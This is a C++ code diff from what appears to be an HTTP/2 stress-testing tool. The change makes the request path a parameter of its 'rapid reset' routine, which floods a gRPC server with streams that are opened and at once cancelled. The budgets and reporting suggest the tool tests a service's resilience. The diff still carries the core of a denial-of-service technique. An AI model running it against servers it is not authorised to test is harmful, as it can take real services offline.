@@ -24,7 +24,6 @@ namespace {
 using Clock = std::chrono::steady_clock;
 using std::chrono::milliseconds;
 
-constexpr char kGetActorPath[] = "/maillage.v1.ActorService/GetActor";
 constexpr char kBystanderId[] = "ext:h2probe:bystander";
 
 double SecondsSince(Clock::time_point start) {
@@ -201,10 +200,10 @@ void AwaitClose(H2Client* client, Clock::time_point start,
 
 // One connection of the rapid reset; returns when the server answered with
 // GOAWAY or closed, or the budget is spent.
-void RapidResetConnection(H2Client* client, int64_t max_streams,
-                          Clock::time_point start, Clock::time_point deadline,
-                          Report* report) {
-  const std::string block = H2Client::GrpcHeaderBlock(kGetActorPath);
+void RapidResetConnection(H2Client* client, std::string_view path,
+                          int64_t max_streams, Clock::time_point start,
+                          Clock::time_point deadline, Report* report) {
+  const std::string block = H2Client::GrpcHeaderBlock(path);
   const std::string cancel = RstPayload(kH2Cancel);
   uint32_t id = 1;
   while (report->streams < max_streams && Clock::now() < deadline) {
@@ -319,7 +318,7 @@ bool PrepareBystander(const Target& target) {
 }
 
 Report RapidReset(const Target& target, int64_t max_streams,
-                  milliseconds budget, bool reconnect) {
+                  milliseconds budget, bool reconnect, std::string_view path) {
   Report report;
   report.attack = reconnect ? "rapid reset (reconnecting)" : "rapid reset";
   AttackScope scope(target);
@@ -328,7 +327,7 @@ Report RapidReset(const Target& target, int64_t max_streams,
     H2Client client;
     if (!Open(target, &client)) break;
     ++report.connections;
-    RapidResetConnection(&client, max_streams, scope.start(), deadline,
+    RapidResetConnection(&client, path, max_streams, scope.start(), deadline,
                          &report);
     if (!reconnect) {
       AwaitClose(&client, scope.start(), Clock::now() + std::chrono::seconds(3),
